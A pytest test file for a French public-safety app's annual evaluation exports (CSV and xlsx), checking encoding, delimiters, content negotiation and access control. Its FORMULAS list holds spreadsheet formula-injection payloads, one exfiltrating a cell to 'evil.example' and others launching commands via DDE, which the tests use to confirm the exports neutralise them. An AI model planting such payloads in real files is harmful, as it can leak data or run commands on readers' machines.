"""The annual evaluation as files for spreadsheets, through HTTP (API and console): the CSV
that French Excel opens as columns, the CSV for machines, the xlsx workbook, formula-like
names made inert in each, and which format an `Accept` header gets."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook

from app.actions.models import Action
from app.core import exports
from app.figures.service import EXPORT_COLUMNS
from app.problems.models import Problem
from tests.api import Api, Caller, World, expect, problem_of
from tests.test_console_dashboard import PAGE, Console, a_closed_year, dashboard
from tests.test_figures import paris, store

PATH = "/evaluations/annual"
BOM = "\ufeff".encode()
CSV_TYPE = "text/csv; charset=utf-8; header=present"
# What a GPO or an organisation could be named to run something in a spreadsheet (OWASP).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def evaluation(api: Api, caller: Caller, accept: str | None, **params: Any) -> httpx.Response:
    headers = {"Accept": accept} if accept is not None else {}
    return await api.get(caller, PATH, params={"year": 2025, **params}, headers=headers)


def rows_of(content: bytes, delimiter: str) -> list[dict[str, str]]:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def sheet_of(content: bytes) -> list[list[Any]]:
    """The values of the workbook's only sheet, row by row, and that no cell is a formula."""
    workbook = load_workbook(io.BytesIO(content))
    assert len(workbook.worksheets) == 1
    sheet = workbook.worksheets[0]
    assert sheet.title == "Évaluation annuelle 2025"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    return [list(row) for row in sheet.iter_rows(values_only=True)]


async def named_like_formulas(world: World, app: FastAPI, name: str) -> tuple[str, str]:
    """A GPO named `name` with a problem of 2025, and an organisation named `name` with an
    action of 2025: both labels end up in the evaluation. Returns the GPO's and the
    organisation's names (distinct: names are unique)."""
    api, fac = world.api, world.facilitator
    organisation = await api.organisation(name=name)
    gpo = await api.gpo(fac, name=name + " (GPO)", members=[organisation])
    problem = await api.problem(fac, gpo)
    action = await api.action(fac, problem, organisation)
    await store(app, Problem, problem, created_at=paris(2025, 3, 1))
    await store(app, Action, action, created_at=paris(2025, 3, 2))
    return gpo["name"], organisation["name"]


# --- the CSV French Excel opens ------------------------------------------------------------


@pytest.mark.parametrize("accept", ["text/csv", "text/csv; header=present", "text/*"])
async def test_the_csv_is_what_french_excel_opens_as_columns(
    world: World, app: FastAPI, accept: str
) -> None:
    await a_closed_year(world, app)
    response = await evaluation(world.api, world.commander, accept)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == CSV_TYPE
    assert response.headers["content-disposition"] == (
        'attachment; filename="evaluation-gpo-2025.csv"'
    )
    assert response.headers["cache-control"] == "no-store"
    content = response.content
    assert content.startswith(BOM)  # else Excel reads Windows-1252 and breaks the accents
    lines = content.removeprefix(BOM).split(b"\r\n")
    assert lines[-1] == b""  # every line ends with CRLF...
    assert not any(b"\n" in line or b"\r" in line for line in lines)  # ...and only there
    assert lines[0].decode() == ";".join(EXPORT_COLUMNS)

    rows = {(row["breakdown"], row["key"]): row for row in rows_of(content, ";")}
    assert rows[("commune", "57480")]["label"] == "Montigny-lès-Metz"
    totals = rows[("totals", "all")]
    assert totals["problems_raised"] == "2"
    assert totals["median_days_to_close"] == "10,0"  # a decimal comma, as French Excel reads
    assert rows[("commune", "57480")]["median_days_to_close"] == ""  # none closed: empty


async def test_machines_ask_for_commas_and_get_decimal_points(world: World, app: FastAPI) -> None:
    await a_closed_year(world, app)
    response = await evaluation(world.api, world.commander, "text/csv", delimiter=",")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == CSV_TYPE
    assert response.headers["cache-control"] == "no-store"
    content = response.content
    assert not content.startswith(BOM)
    assert content.split(b"\r\n")[0].decode() == ",".join(EXPORT_COLUMNS)
    assert content.endswith(b"\r\n")
    rows = {(row["breakdown"], row["key"]): row for row in rows_of(content, ",")}
    assert rows[("totals", "all")]["median_days_to_close"] == "10.0"
    assert rows[("commune", "57480")]["label"] == "Montigny-lès-Metz"

    # The French form asked by name is the default one.
    french = await evaluation(world.api, world.commander, "text/csv", delimiter=";")
    assert french.content == (await evaluation(world.api, world.commander, "text/csv")).content


@pytest.mark.parametrize("delimiter", ["|", "tab", ""])
async def test_another_delimiter_is_422(world: World, delimiter: str) -> None:
    response = await evaluation(world.api, world.commander, "text/csv", delimiter=delimiter)
    body = problem_of(response, 422)
    assert ["query", "delimiter"] in [error["loc"] for error in body["errors"]]


# --- formula-like names --------------------------------------------------------------------


@pytest.mark.parametrize("name", FORMULAS)
async def test_formula_like_names_are_inert_in_the_api_csv(
    world: World, app: FastAPI, name: str
) -> None:
    gpo_name, organisation_name = await named_like_formulas(world, app, name)
    for delimiter in (";", ","):
        response = await evaluation(world.api, world.commander, "text/csv", delimiter=delimiter)
        assert response.status_code == 200, response.text
        rows = rows_of(response.content, delimiter)
        by_label = {row["label"] for row in rows}
        assert "'" + gpo_name in by_label, rows
        assert "'" + organisation_name in by_label, rows
        assert gpo_name not in by_label
        assert organisation_name not in by_label
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(exports.FORMULA_START), (column, value)
                # Numbers stay numbers: only text gets the apostrophe.
                if column not in ("breakdown", "key", "label") and value:
                    float(value.replace(",", "."))


async def test_formula_like_names_are_inert_in_the_console_csv(
    world: World, app: FastAPI, console: Console
) -> None:
    gpo_name, organisation_name = await named_like_formulas(world, app, "+cmd|' /C calc'!A0")
    commander = await console(world.commander)
    response = await commander.get(f"{PAGE}/evaluation.csv", params={"year": "2025"})
    assert response.status_code == 200
    labels = {row["label"] for row in rows_of(response.content, ";")}
    assert {"'" + gpo_name, "'" + organisation_name} <= labels
    api_csv = await evaluation(world.api, world.commander, "text/csv")
    assert api_csv.content == response.content  # one writer for both


def test_negative_numbers_stay_numbers_and_negative_text_does_not() -> None:
    """No figure of the evaluation is negative today; the rule holds for those that will."""
    columns = ["label", "change", "ratio", "note"]
    rows = [{"label": "-1", "change": -3, "ratio": -0.5, "note": "\tx"}, {"note": "\r=1"}]
    french = exports.csv_file(columns, rows).decode("utf-8-sig")
    assert french == "label;change;ratio;note\r\n'-1;-3;-0,5;'\tx\r\n;;;\"'\r=1\"\r\n"
    plain = exports.csv_file(columns, rows, exports.PLAIN).decode()
    assert plain == "label,change,ratio,note\r\n'-1,-3,-0.5,'\tx\r\n,,,\"'\r=1\"\r\n"
    values = sheet_values(exports.xlsx_file(columns, rows[:1], "Feuille"))
    assert values == [columns, ["-1", -3, -0.5, "\tx"]]


def sheet_values(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# --- xlsx ----------------------------------------------------------------------------------


async def test_the_evaluation_as_xlsx_has_numbers_as_numbers(world: World, app: FastAPI) -> None:
    await a_closed_year(world, app)
    gpo_name, organisation_name = await named_like_formulas(world, app, FORMULAS[0])
    response = await evaluation(world.api, world.commander, exports.XLSX)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == exports.XLSX
    assert response.headers["content-disposition"] == (
        'attachment; filename="evaluation-gpo-2025.xlsx"'
    )
    assert response.headers["cache-control"] == "no-store"

    header, *rows = sheet_of(response.content)
    assert header == EXPORT_COLUMNS
    csv_rows = rows_of((await evaluation(world.api, world.commander, "text/csv")).content, ";")
    assert len(rows) == len(csv_rows)
    by_pair = {(row[0], row[1]): dict(zip(header, row, strict=True)) for row in rows}
    totals = by_pair[("totals", "all")]
    assert totals["problems_raised"] == 3
    assert totals["median_days_to_close"] == pytest.approx(10.0)
    for row in by_pair.values():
        for column in EXPORT_COLUMNS[3:]:
            assert row[column] is None or isinstance(row[column], int | float), (column, row)
    assert by_pair[("commune", "57480")]["label"] == "Montigny-lès-Metz"
    assert by_pair[("commune", "57480")]["median_days_to_close"] is None

    # Formula-like names are text cells, kept exactly as typed (no apostrophe to strip).
    labels = {row["label"] for row in by_pair.values()}
    assert {gpo_name, organisation_name} <= labels
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    named = [cell for (cell,) in sheet.iter_rows(min_col=3, max_col=3) if cell.value == gpo_name]
    assert named
    assert named[0].data_type == "s"
    assert named[0].quotePrefix  # Excel keeps it text when the cell is edited


async def test_the_console_offers_the_xlsx_beside_the_csv(
    world: World, app: FastAPI, console: Console
) -> None:
    await a_closed_year(world, app)
    commander = await console(world.commander)
    page = await dashboard(commander, year="2025")
    assert f'href="{PAGE}/evaluation.csv?year=2025"' in page
    assert f'href="{PAGE}/evaluation.xlsx?year=2025"' in page
    assert "XLSX" in page

    response = await commander.get(f"{PAGE}/evaluation.xlsx", params={"year": "2025"})
    assert response.status_code == 200
    assert response.headers["content-type"] == exports.XLSX
    assert response.headers["content-disposition"] == (
        'attachment; filename="evaluation-gpo-2025.xlsx"'
    )
    assert response.headers["cache-control"] == "no-store"
    api_xlsx = await evaluation(world.api, world.commander, exports.XLSX)
    assert sheet_of(response.content) == sheet_of(api_xlsx.content)

    invalid = await commander.get(f"{PAGE}/evaluation.xlsx", params={"year": "1850"})
    assert invalid.status_code == 400
    assert invalid.headers["content-type"].startswith("text/html")


@pytest.mark.parametrize(
    "who", ["landlord_partner", "police_partner", "municipal_partner", "outsider_partner"]
)
async def test_partners_get_no_xlsx(world: World, console: Console, who: str) -> None:
    problem_of(await evaluation(world.api, getattr(world, who), exports.XLSX), 403)
    person = await console(getattr(world, who))
    response = await person.get(f"{PAGE}/evaluation.xlsx", params={"year": "2025"})
    assert response.status_code == 403


# --- which format an Accept header gets ----------------------------------------------------


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        (None, "application/json"),
        ("*/*", "application/json"),
        ("application/json", "application/json"),
        ("application/xml", "application/json"),  # nothing offered fits: JSON, as everywhere
        ("text/csv;q=0.5, application/json", "application/json"),
        ("application/json;q=0.1, text/csv", "text/csv"),
        ("text/csv, */*;q=0.1", "text/csv"),
        ("text/csv;q=0, */*", "application/json"),
        ("text/html, text/*;q=0.9", "text/csv"),
        (f"{exports.XLSX}, text/csv;q=0.8", exports.XLSX),
    ],
)
async def test_accept_chooses_the_format(world: World, accept: str | None, expected: str) -> None:
    response = await evaluation(world.api, world.commander, accept)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].split(";")[0] == expected


async def test_the_openapi_document_describes_the_files(api: Api) -> None:
    document = expect(await api.client.get("/openapi.json"), 200)
    operation = document["paths"]["/api/v1/evaluations/annual"]["get"]
    ok = operation["responses"]["200"]
    assert {"application/json", "text/csv", exports.XLSX} <= set(ok["content"])
    for words in ("byte order mark", "`;`", "delimiter=,", "apostrophe", "decimal"):
        assert words in ok["description"], words
    parameters = {parameter["name"]: parameter for parameter in operation["parameters"]}
    assert parameters["delimiter"]["schema"]["enum"] == [";", ","]
    assert parameters["delimiter"]["schema"]["default"] == ";"
